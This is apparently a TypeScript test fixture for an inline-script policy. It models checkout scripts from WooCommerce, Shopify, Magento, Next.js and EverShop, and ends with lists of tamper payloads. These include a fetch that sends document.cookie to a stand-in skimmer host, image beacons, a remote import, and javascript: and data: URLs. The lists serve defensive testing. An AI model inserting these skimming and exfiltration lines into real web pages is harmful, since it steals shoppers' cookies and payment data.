/**
 * The space of templated inline code for the template tests (issue 18): scripts modelled on what
 * real checkouts render (WooCommerce, Shopify, Magento, Next.js, EverShop; research note
 * dynamic-inline-scripts.md), each as its template, its slots, and a generator of renderings with
 * fresh values. The tamper families are generated from the template's own tokens, so a new
 * template is attacked the same way without writing a case for it.
 */
import type { CodeGoal, SlotSpec } from '../../src/policy/inline-template.js';
import type { TemplateEntry } from '../../src/policy/model.js';

export interface TemplatedCode {
  readonly name: string;
  readonly goal: CodeGoal;
  readonly entry: TemplateEntry;
  /** A rendering: the template with each slot filled by `values[slot]` (source text of a literal). */
  readonly render: (values: Readonly<Record<string, string>>) => string;
  /** Where each slot's value sits in `render(values)`: [start, end) offsets. */
  readonly slotSpans: (values: Readonly<Record<string, string>>) => [number, number][];
  /** Fresh source literals for every slot, from a seeded random source. */
  readonly values: (random: () => number) => Record<string, string>;
}

const SLOT = /\$slot\$([A-Za-z_][A-Za-z0-9_]*)/g;
const hex = (random: () => number, n: number) => Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join('');
const digits = (random: () => number, n: number) => Array.from({ length: n }, () => Math.floor(random() * 10)).join('');
const pick = <T>(random: () => number, items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
const NAMES = ['Tee "Classic"', 'Café crème', 'Mug </script> edition', "O'Neil socks", '日本茶', 'Plain'];

function cart(random: () => number): string {
  const rows = Array.from({ length: Math.floor(random() * 5) }, (_, i) => ({
    id: i + 1,
    sku: `SKU-${digits(random, 4)}`,
    name: pick(random, NAMES),
    price: Math.round(random() * 10_000) / 100,
    qty: 1 + Math.floor(random() * 3),
    image: `https://shop.example/media/p${digits(random, 3)}.jpg`,
    onSale: random() < 0.5,
    note: null,
  }));
  // JSON.stringify, then `<` as \u003C the way Magento and Next.js escape it inside a script.
  return JSON.stringify({ items: rows, total: rows.reduce((s, r) => s + r.price * r.qty, 0) }).replace(/</g, '\\u003C');
}

function templated(name: string, goal: CodeGoal, template: string, slots: Record<string, SlotSpec>, values: TemplatedCode['values']): TemplatedCode {
  return {
    name,
    goal,
    entry: { type: 'template', template, slots, why: `${name} (test)` },
    render: (v) => template.replace(SLOT, (_, slot: string) => v[slot]!),
    slotSpans: (v) => {
      const spans: [number, number][] = [];
      let shift = 0;
      for (const m of template.matchAll(SLOT)) {
        const value = v[m[1]!]!;
        spans.push([m.index + shift, m.index + shift + value.length]);
        shift += value.length - m[0].length;
      }
      return spans;
    },
    values,
  };
}

export const TEMPLATED_CODE: readonly TemplatedCode[] = [
  templated(
    'woocommerce-blocks-middleware',
    'script',
    "var wcBlocksMiddlewareConfig = {\n\t\t\t\tstoreApiNonce: $slot$nonce,\n\t\t\t\twcStoreApiNonceTimestamp: $slot$time\n\t\t\t};",
    { nonce: { type: 'string', charset: 'hex', length: [10, 10] }, time: { type: 'string', charset: 'digits', length: [10, 10] } },
    (r) => ({ nonce: `'${hex(r, 10)}'`, time: `'${digits(r, 10)}'` }),
  ),
  templated(
    'shopify-st',
    'script',
    'var __st={"a":$slot$shop,"offset":$slot$offset,"reqid":$slot$reqid,"pageurl":$slot$pageurl,"u":$slot$visitor,"p":"cart"};',
    {
      shop: { type: 'number', integer: true, min: 1 },
      offset: { type: 'number', integer: true, min: -50400, max: 50400 },
      reqid: { type: 'string', charset: 'token', length: [36, 36] },
      pageurl: { type: 'string', length: [1, 2048] },
      visitor: { type: 'string', charset: 'hex', length: [12, 12] },
    },
    (r) => ({
      shop: String(1 + Math.floor(r() * 1e8)),
      offset: String(pick(r, [-14400, 0, 32400, -3600])),
      reqid: `"${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-a${hex(r, 3)}-${hex(r, 12)}"`,
      pageurl: `"shop.example\\/cart?v=${digits(r, 3)}"`,
      visitor: `"${hex(r, 12)}"`,
    }),
  ),
  templated(
    'magento-checkout-config',
    'script',
    'window.checkoutConfig = $slot$config;\n            window.isCustomerLoggedIn = window.checkoutConfig.isCustomerLoggedIn;\n            window.customerData = window.checkoutConfig.customerData;',
    { config: { type: 'json' } },
    (r) => ({ config: `{"formKey":"${hex(r, 16)}","isCustomerLoggedIn":${r() < 0.5},"customerData":[],"quoteData":${cart(r)},"checkoutUrl":"https:\\/\\/shop.example\\/checkout\\/"}` }),
  ),
  templated(
    'next-flight-push',
    'script',
    'self.__next_f.push([1,$slot$payload])',
    { payload: { type: 'string', length: [0, 100_000] } },
    (r) => ({ payload: JSON.stringify(`${digits(r, 2)}:["$","div",null,{"className":"cart","children":"${pick(r, NAMES)}"}]\n`).replace(/</g, '\\u003c') }),
  ),
  templated(
    'evershop-context',
    'script',
    'var eContext = $slot$context',
    { context: { type: 'json' } },
    (r) => ({ context: `{"graphqlResponse":{"cart":${cart(r)}},"propsMap":{"e${digits(r, 2)}":[{"origin":"cartId","alias":"c${digits(r, 3)}"}]}}` }),
  ),
  templated(
    'add-to-cart-handler',
    'handler',
    'addToCart($slot$id, $slot$qty); return false;',
    { id: { type: 'number', integer: true, min: 1 }, qty: { type: 'number', integer: true, min: 1, max: 99 } },
    (r) => ({ id: String(1 + Math.floor(r() * 99_999)), qty: String(1 + Math.floor(r() * 9)) }),
  ),
];

/** A small seeded PRNG (mulberry32): a failing rendering replays from its seed. */
export function seeded(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** What an intruder puts in a slot instead of a literal: code, in every shape an expression can take. */
export const CODE_IN_SLOT: readonly string[] = [
  'f()', 'x', "'a'+'b'", '`t${x}`', '`plain`', '(0,eval)("x")', '[1,f()]', '{"a":f()}', '{a}', '{...x}', '[...x]', '{get a(){return 1}}',
  '{a(){}}', '-x', '!0', 'void 0', '1?2:3', 'new X', '/re/', '10n', '() => 1', 'function(){}', '[,1]', '{["k"]:1}', '{__proto__:{}}',
  '{"__proto__":{}}', "'a'.constructor", "('a')", '(1)', 'import("//skim.attacker.example/x.js")', 'this', 'a=1', "'a',f()", '1,f()',
  "'a';f()", '+1', '~1', '-(1)', '--x', 'typeof x', 'NaN', 'Infinity', 'undefined', '[f]', '{"a":[f]}', '{"a":x}',
];

/** Code an intruder appends or inserts between two tokens of a templated script. */
export const INSERTED_CODE: readonly string[] = [
  ';fetch("https://skim.attacker.example/c?"+document.cookie);',
  ',fetch("//skim.attacker.example")',
  '\nnew Image().src="https://skim.attacker.example/p"\n',
  '+fetch("https://skim.attacker.example")',
  '/**/;x=1;/**/',
];

/** A place a slot's string names, in the spellings the URL parser and JS escapes allow. */
export const FOREIGN_PLACES: readonly string[] = [
  'https://skim.attacker.example/pay',
  '//skim.attacker.example/pay',
  'HTTPS://SKIM.ATTACKER.EXAMPLE/PAY',
  '\\u0068ttps://skim.attacker.example/pay',
  ' https://skim.attacker.example/pay',
  '\\/\\/skim.attacker.example',
  'https:\\\\\\\\skim.attacker.example',
  'skim.attacker.example',
  'skim.attacker.example:8443',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)<\\/script>',
  'wss://skim.attacker.example/socket',
];
